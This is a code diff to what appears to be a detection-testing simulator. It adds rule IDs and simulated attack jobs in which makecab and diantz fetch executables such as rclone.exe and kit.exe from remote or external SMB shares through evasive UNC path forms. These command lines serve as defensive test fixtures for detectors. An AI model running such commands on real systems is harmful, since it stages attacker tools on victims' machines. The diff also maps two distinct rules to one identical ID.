@@ -25,6 +25,8 @@ from cabhunt.simulate.writers.common import logged_guid
 MAKECAB = f"{SYSTEM32}\\makecab.exe"
 DIANTZ = f"{SYSTEM32}\\diantz.exe"
 FS = f"FS01.{DNS_SUFFIX}"
+RULE_IDS = {"makecab_download_cab": "CNC-E-2726320-168", "makecab_network": "CNC-E-2726320-168",
+            "diantz_network": "CNC-E-2726320-142", "diantz_download_cab": "CNC-E-2726320-143"}
 
 
 @dataclass(slots=True)
@@ -70,7 +72,8 @@ def _u(host: Host) -> str:
 
 
 def _is_ip(h: str) -> bool:
-    return h.replace(".", "").isdigit() and h.count(".") == 3
+    """IPv4 literal or a Windows IPv6 literal name (``2001-db8--1.ipv6-literal.net``)."""
+    return (h.replace(".", "").isdigit() and h.count(".") == 3) or h.lower().endswith(".ipv6-literal.net")
 
 
 def jobs(fleet: Fleet, start: datetime) -> list[tuple[Job, Host]]:
@@ -203,6 +206,24 @@ def jobs(fleet: Fleet, start: datetime) -> list[tuple[Job, Host]]:
             command="diantz.exe \\\\45.137.21.9\\files\\kit.exe C:\\Users\\Public\\kit.cab",
             sources=[Source("smb", "45.137.21.9", "45.137.21.9", 445, False, "files", "kit.exe")],
             cab="C:\\Users\\Public\\kit.cab", own_conn=True, followon=("expand", "exec_exe", "service")), h)
+    h = pick(16)
+    add(Job("unc_long_path_makecab", "attack", "suspicious",
+            "makecab reads through the \\\\?\\UNC\\ long-path form of a file-server path",
+            "ws", command=f"makecab \\\\?\\UNC\\{FS}\\scratch\\drop\\rclone.exe C:\\Users\\Public\\rc.cab",
+            sources=[Source("smb", FS, fleet.fileserver.ip, 445, False, "scratch", "drop\\rclone.exe")],
+            cab="C:\\Users\\Public\\rc.cab"), h)
+    h = pick(17)
+    add(Job("forward_slash_unc_makecab", "attack", "suspicious",
+            "makecab with a forward-slash UNC path (//host/share/file) to an unknown server",
+            "ws", command=f"makecab //files-eu.corp-partner.com/pub/sync.exe {_u(h)}\\Downloads\\sync.cab",
+            sources=[Source("smb", "files-eu.corp-partner.com", "81.169.145.93", 445, False, "pub", "sync.exe")],
+            cab=f"{_u(h)}\\Downloads\\sync.cab"), h)
+    h = pick(18)
+    add(Job("ipv6_literal_makecab", "attack", "suspicious",
+            "makecab reads from an IPv6 literal UNC name (fd00-20--50.ipv6-literal.net)",
+            "ws", command="makecab \\\\fd00-20--50.ipv6-literal.net\\share\\tool.exe C:\\Users\\Public\\v6.cab",
+            sources=[Source("smb", "fd00-20--50.ipv6-literal.net", "fd00:20::50", 445, False, "share", "tool.exe")],
+            cab="C:\\Users\\Public\\v6.cab"), h)
     b = fleet.buildserver
     add(Job("allowlisted_swdist_share", "benign", "suppressed",
             "the build server packages the agent from the software distribution share (allowlisted)",
@@ -433,6 +454,7 @@ def run_job(act: Activity, job: Job, ts: int, store: ArtifactStore, rng: random.
         rules.append(f"{job.maker}_download_cab")
     if job.own_conn:
         rules.append(f"{job.maker}_network")
+    rule_ids = sorted({RULE_IDS[r] for r in rules})
     return {
         "name": job.name, "kind": job.kind, "description": job.description, "host": h.name, "host_fqdn": h.fqdn,
         "host_ip": h.ip, "log_format": fmt, "timestamp": iso_ms(ts),
@@ -440,7 +462,7 @@ def run_job(act: Activity, job: Job, ts: int, store: ArtifactStore, rng: random.
         "image": mk.image, "original_file_name": mk.pe.original_file_name, "command_line": mk.cmd,
         "working_directory": mk.cwd, "parent_image": parent.image, "parent_command_line": parent.cmd,
         "parent_entity_id": logged_guid(fmt, parent.guid), "user": mk.logon.user,
-        "expected_verdict": job.verdict, "expected_findings": findings, "expected_rules": rules,
+        "expected_verdict": job.verdict, "expected_findings": findings, "expected_rules": rules, "expected_rule_ids": rule_ids,
         "sources": [{"kind": s.kind, "host": s.host or None, "ip": s.ip or None,
                      "port": s.port if s.kind != "local" else None, "path": s.path, "sha256": sha256(s.content)}
                     for s in job.sources],
@@ -522,7 +544,7 @@ def _run_cbs(act: Activity, job: Job, ts: int, store: ArtifactStore, rng: random
         "image": mk.image, "original_file_name": mk.pe.original_file_name, "command_line": mk.cmd,
         "working_directory": mk.cwd, "parent_image": parent.image, "parent_command_line": parent.cmd,
         "parent_entity_id": logged_guid(h.fmt, parent.guid), "user": mk.logon.user,
-        "expected_verdict": job.verdict, "expected_findings": [], "expected_rules": [],
+        "expected_verdict": job.verdict, "expected_findings": [], "expected_rules": [], "expected_rule_ids": [],
         "sources": [{"kind": "local", "host": None, "ip": None, "port": None,
                      "path": cab[:-4] + ".log", "sha256": None}],
         "cabinet": {"path": cab, "sha256": rec["sha256"], "artifact": rec["path"]},
